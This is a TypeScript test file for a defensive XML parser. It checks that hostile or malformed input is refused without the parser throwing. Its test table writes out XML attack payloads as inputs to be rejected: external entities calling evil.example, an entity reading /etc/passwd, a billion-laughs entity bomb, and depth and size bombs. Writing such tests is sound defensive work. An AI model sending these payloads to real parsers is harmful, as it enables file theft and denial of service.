// XML from strangers: what is a danger is refused before it grows, what is a mistake is unreadable, and nothing throws.
import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { limits } from '../../../src/core/limits.ts'
import {
  child,
  children,
  childText,
  descendant,
  escapeXml,
  parseXml,
  type XmlResult,
} from '../../../src/core/network/xml.ts'

const kind = (text: string): string => {
  const result = parseXml(text)
  return result.kind === 'unsafe' ? `unsafe ${result.reason}` : result.kind
}
const rootOf = (result: XmlResult) => (result.kind === 'document' ? result.root : undefined)
const laughs =
  '<!DOCTYPE lolz [<!ENTITY lol "lol">' +
  Array.from({ length: 9 }, (_, at) => `<!ENTITY lol${at + 1} "${`&lol${at === 0 ? '' : at};`.repeat(10)}">`).join('') +
  ']><lolz>&lol9;</lolz>'
const nested = (depth: number): string => '<a>'.repeat(depth) + '</a>'.repeat(depth)
const attributes = (count: number): string => `<a ${Array.from({ length: count }, (_, at) => `a${at}="x"`).join(' ')}/>`

test.each<[string, string, string]>([
  ['a document', '<?xml version="1.0" encoding="utf-8"?><a/>', 'document'],
  ['a byte order mark', '\ufeff<?xml version="1.0"?><a/>', 'document'],
  ['another encoding named than came', '<?xml version="1.0" encoding="utf-16"?><a>ü</a>', 'document'],
  ['an encoding that nobody knows', '<?xml version="1.0" encoding="martian"?><a/>', 'document'],
  ['UTF-16 read as UTF-8', Buffer.from('<?xml version="1.0"?><a/>', 'utf16le').toString('utf8'), 'unreadable'],
  ['a document type', '<!DOCTYPE a SYSTEM "http://evil.example/x.dtd"><a/>', 'unsafe doctype'],
  ['an empty document type', '<!DOCTYPE a><a/>', 'unsafe doctype'],
  ['billion laughs', laughs, 'unsafe doctype'],
  ['a file as entity', '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>', 'unsafe doctype'],
  ['a parameter entity', '<!DOCTYPE a [<!ENTITY % x SYSTEM "http://evil.example/">%x;]><a/>', 'unsafe doctype'],
  ['an entity that nobody declared', '<a>&x;</a>', 'unsafe entity'],
  ['an entity in an attribute', '<a b="&x;"/>', 'unsafe entity'],
  ['the entities of XML itself', '<a>&lt;&amp;&#65;&#x42;</a>', 'document'],
  ['a character that does not exist', '<a>&#x110000;</a>', 'unsafe entity'],
  ['the allowed depth', nested(limits.xmlDepth), 'document'],
  ['one deeper', nested(limits.xmlDepth + 1), 'unsafe depth'],
  ['a hundred thousand deep', '<a>'.repeat(100_000), 'unsafe depth'],
  ['the allowed attributes', attributes(limits.xmlAttributes), 'document'],
  ['one more', attributes(limits.xmlAttributes + 1), 'unsafe attributes'],
  ['a hundred thousand attributes', attributes(100_000), 'unsafe attributes'],
  ['the same attribute twice', '<a b="1" b="2"/>', 'unreadable'],
  ['many elements', `<a>${'<b/>'.repeat(limits.xmlElements)}</a>`, 'unsafe elements'],
  ['huge text', `<a>${'x'.repeat(limits.xmlTextCharacters + 1)}</a>`, 'unsafe text'],
  ['huge text in pieces', `<a>${`${'x'.repeat(100_000)}<b/>`.repeat(25)}</a>`, 'unsafe text'],
  ['huge CDATA', `<a><![CDATA[${'x'.repeat(limits.xmlTextCharacters + 1)}]]></a>`, 'unsafe text'],
  ['broken nesting', '<a><b></a></b>', 'unreadable'],
  ['an open end', '<a><b>', 'unreadable'],
  ['two roots', '<a/><b/>', 'unreadable'],
  ['text around', 'x<a/>', 'unreadable'],
  ['a prefix that nobody declared', '<x:a/>', 'unreadable'],
  ['a control character', '<a>\u0001</a>', 'unreadable'],
  ['HTML', '<html><body><br></body></html>', 'unreadable'],
  ['nothing', '', 'unreadable'],
  ['no XML', '{"a":1}', 'unreadable'],
])('%s', (_what, text, expected) => {
  expect(kind(text)).toBe(expected)
})

test('a big bad document is judged quickly', () => {
  const started = performance.now()
  kind(`<a>${'&lt;'.repeat(1_000_000)}</a>`)
  kind(`<a b="${'x'.repeat(4_000_000)}"/>`)
  kind(`<!--${'-x'.repeat(2_000_000)}-->`)
  kind('<'.repeat(4_000_000))
  expect(performance.now() - started).toBeLessThan(3_000)
})

describe('the tree', () => {
  const root = rootOf(
    parseXml('<p:a xmlns:p="urn:one" xmlns="urn:two" p:k="1"><b> x<![CDATA[ <y> ]]></b><c><b>deep</b></c><b/></p:a>'),
  )
  test('has local names, namespaces, text and attributes', () => {
    expect(root).toMatchObject({ name: 'a', namespace: 'urn:one', attributes: { k: '1' } })
    expect(child(root, 'b')).toMatchObject({ namespace: 'urn:two', text: ' x <y> ' })
    expect(children(root, 'b')).toHaveLength(2)
    expect(childText(root, 'b')).toBe('x <y>')
    expect(childText(root, 'nothing')).toBeNull()
    expect(descendant(child(root, 'c'), 'b')?.text).toBe('deep')
    expect(descendant(root, 'nothing')).toBeUndefined()
  })

  test('an attribute named like a prototype is an attribute', () => {
    const parsed = rootOf(parseXml('<a __proto__="x" constructor="y"/>'))
    expect(Object.entries(parsed?.attributes ?? {})).toEqual([
      ['__proto__', 'x'],
      ['constructor', 'y'],
    ])
    expect(Object.getPrototypeOf({})).toBe(Object.prototype)
  })
})

test('never throws', () => {
  const piece = fc.constantFrom(
    ...['<', '>', '</a>', '<a>', '<a b="', '"', '/>', '<?xml', '?>', '<!DOCTYPE', '[', ']>', '<![CDATA[', ']]>'],
    ...['<!--', '-->', '&', '&lt;', '&#x', ';', 'xmlns:x="', 'x:', '\ufeff', '\u0000', '\ud800', 'ü', '<?', '<!ENTITY'],
  )
  fc.assert(
    fc.property(fc.array(fc.oneof(piece, fc.string({ unit: 'binary', maxLength: 6 })), { maxLength: 30 }), (pieces) => {
      expect(['document', 'unsafe', 'unreadable']).toContain(parseXml(pieces.join('')).kind)
    }),
    { numRuns: 1_500 },
  )
})

test('what we write ourselves is read back, whatever its characters', () => {
  fc.assert(
    fc.property(fc.string({ unit: 'binary', maxLength: 40 }), (text) => {
      // XML cannot carry most control characters, and turns every end of line into \n.
      // eslint-disable-next-line no-control-regex
      const carried = text.replace(/[\u0000-\u0008\u000b-\u001f\ufffe\uffff]/g, '')
      const parsed = rootOf(parseXml(`<a>${escapeXml(text).replaceAll('\r', '')}</a>`))
      expect(parsed?.text).toBe(carried)
    }),
    { numRuns: 500 },
  )
})
